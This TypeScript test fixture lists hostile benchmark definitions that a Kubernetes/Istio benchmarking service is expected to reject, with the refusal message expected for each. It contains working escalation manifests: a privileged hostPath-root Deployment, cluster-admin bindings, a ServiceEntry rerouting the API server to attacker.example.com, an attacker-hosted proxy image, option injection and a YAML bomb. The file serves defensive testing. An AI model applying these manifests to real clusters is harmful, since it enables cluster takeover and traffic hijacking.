/**
 * Benchmark definitions a member would write to escalate with the cluster's credentials (issue
 * 20, defect 5), each with the field its refusal must name. Plain data (benchmark definition
 * input): the service, tRPC and apiserver suites run the same table, as the attacker.
 */
export type HostileBenchmark = {
  /** What the attacker tries. */
  name: string;
  /** The field the BAD_REQUEST names. */
  field: string;
  /** Words the refusal carries. */
  message: RegExp;
  /** The variant whose preparation must fail at apply time. */
  variant: string;
  definition: Record<string, unknown>;
};

const PRIVILEGED_DEPLOYMENT = `apiVersion: apps/v1
kind: Deployment
metadata: { name: root }
spec:
  selector: { matchLabels: { app: root } }
  template:
    metadata: { labels: { app: root } }
    spec:
      hostPID: true
      volumes: [{ name: host, hostPath: { path: / } }]
      containers:
        - name: shell
          image: busybox
          securityContext: { privileged: true }
          volumeMounts: [{ name: host, mountPath: /host }]`;

const ENTRY_SERVICE = `apiVersion: v1
kind: Service
metadata: { name: web }
spec: { selector: { app: root }, ports: [{ port: 8080 }] }`;

const CLUSTER_ADMIN_BINDING = `apiVersion: rbac.authorization.k8s.io/v1
kind: RoleBinding
metadata: { name: take-over }
roleRef: { apiGroup: rbac.authorization.k8s.io, kind: ClusterRole, name: cluster-admin }
subjects: [{ kind: ServiceAccount, name: default }]`;

const MESH_WIDE_SERVICE_ENTRY = `apiVersion: networking.istio.io/v1
kind: ServiceEntry
metadata: { name: hijack }
spec:
  hosts: [kubernetes.default.svc.cluster.local]
  ports: [{ number: 443, name: https, protocol: TLS }]
  resolution: DNS
  endpoints: [{ address: attacker.example.com }]`;

const CLUSTER_ROLE_BINDING_AND_NAMESPACE = `apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRoleBinding
metadata: { name: everyone-admin }
roleRef: { apiGroup: rbac.authorization.k8s.io, kind: ClusterRole, name: cluster-admin }
subjects: [{ kind: Group, name: system:authenticated, apiGroup: rbac.authorization.k8s.io }]
---
apiVersion: v1
kind: Namespace
metadata: { name: attacker-owned }`;

export const PRIVILEGED_WAYPOINT = `apiVersion: gateway.networking.k8s.io/v1
kind: Gateway
metadata: { name: waypoint }
spec:
  gatewayClassName: istio-waypoint
  infrastructure:
    parametersRef: { group: "", kind: ConfigMap, name: waypoint-options }
  listeners: [{ name: mesh, port: 15008, protocol: HBONE }]
---
apiVersion: v1
kind: ConfigMap
metadata: { name: waypoint-options }
data:
  deployment: |
    spec:
      template:
        spec:
          hostNetwork: true
          containers:
            - name: istio-proxy
              securityContext: { privileged: true }`;

const base = {
  target: { kind: "fortio-echo" },
  loadMatrix: { qps: [100], connections: [2] },
};
const variants = (attack: Record<string, unknown>) => [
  { name: "base", mesh: "baseline" },
  { name: "attack", mesh: "istio-ambient", ...attack },
];
const workload = (manifests: string) => ({
  kind: "workload",
  manifests: `${manifests}\n---\n${ENTRY_SERVICE}`,
  entry: { service: "web", port: 8080 },
});

/** A "billion laughs": ten levels of ten aliases each. */
export const BILLION_LAUGHS = [
  "a: &a [lol, lol, lol, lol, lol, lol, lol, lol, lol, lol]",
  ..."bcdefghij".split("").map((x, i) => {
    const prev = "abcdefghij"[i]!;
    return `${x}: &${x} [${Array.from({ length: 10 }, () => `*${prev}`).join(", ")}]`;
  }),
].join("\n");

export const HOSTILE_BENCHMARKS: HostileBenchmark[] = [
  {
    name: "a privileged Deployment with hostPID and hostPath /",
    field: "target.manifests",
    message: /Deployment root: the pod sets hostPID.*hostPath.*privileged/,
    variant: "base",
    definition: { ...base, target: workload(PRIVILEGED_DEPLOYMENT), variants: variants({}) },
  },
  {
    name: "a RoleBinding to cluster-admin",
    field: "target.manifests",
    message: /RoleBinding take-over: a benchmark may not create a RoleBinding/,
    variant: "base",
    definition: { ...base, target: workload(CLUSTER_ADMIN_BINDING), variants: variants({}) },
  },
  {
    name: "a mesh-wide ServiceEntry",
    field: "variants.1.manifests",
    message: /ServiceEntry hijack: spec.exportTo is absent, which exports it to the whole mesh/,
    variant: "attack",
    definition: { ...base, variants: variants({ manifests: MESH_WIDE_SERVICE_ENTRY }) },
  },
  {
    name: "namespace label pod-security.kubernetes.io/enforce: privileged",
    field: "variants.1.labels",
    message: /label pod-security.kubernetes.io\/enforce="privileged" is reserved/,
    variant: "attack",
    definition: {
      ...base,
      variants: variants({ labels: { "pod-security.kubernetes.io/enforce": "privileged" } }),
    },
  },
  {
    name: "pod annotation sidecar.istio.io/userVolume (a hostPath in the sidecar)",
    field: "variants.1.podAnnotations",
    message: /annotation sidecar.istio.io\/userVolume is reserved/,
    variant: "attack",
    definition: {
      ...base,
      variants: variants({
        podAnnotations: {
          "sidecar.istio.io/userVolume": '[{"name":"host","hostPath":{"path":"/"}}]',
          "sidecar.istio.io/userVolumeMount": '[{"name":"host","mountPath":"/host"}]',
        },
      }),
    },
  },
  {
    name: "pod annotation sidecar.istio.io/proxyImage",
    field: "variants.1.podAnnotations",
    message: /annotation sidecar.istio.io\/proxyImage is reserved/,
    variant: "attack",
    definition: {
      ...base,
      variants: variants({
        podAnnotations: { "sidecar.istio.io/proxyImage": "attacker.example.com/proxy:1" },
      }),
    },
  },
  {
    name: "a ClusterRoleBinding and a Namespace in variant manifests",
    field: "variants.1.manifests",
    message:
      /document 1: ClusterRoleBinding everyone-admin: .*document 2: Namespace attacker-owned:/,
    variant: "attack",
    definition: { ...base, variants: variants({ manifests: CLUSTER_ROLE_BINDING_AND_NAMESPACE }) },
  },
  {
    name: "a waypoint Gateway whose parameters ConfigMap carries a privileged deployment",
    field: "variants.1.manifests",
    message:
      /ConfigMap waypoint-options \(parameters of Gateway waypoint\): data.deployment: the pod sets hostNetwork.*privileged/,
    variant: "attack",
    definition: {
      ...base,
      variants: variants({ waypoint: "waypoint", manifests: PRIVILEGED_WAYPOINT }),
    },
  },
  {
    name: "an extra container whose image is an option",
    field: "variants.1.extraContainers.0.image",
    message: /image "--privileged" is not an image reference/,
    variant: "attack",
    definition: {
      ...base,
      variants: variants({ extraContainers: [{ name: "hop", image: "--privileged" }] }),
    },
  },
  {
    name: "a workload past the YAML alias limit (billion laughs)",
    field: "target.manifests",
    message: /expands more than 100 YAML aliases/,
    variant: "base",
    definition: {
      ...base,
      target: {
        kind: "workload",
        manifests: BILLION_LAUGHS,
        entry: { service: "web", port: 8080 },
      },
      variants: variants({}),
    },
  },
];
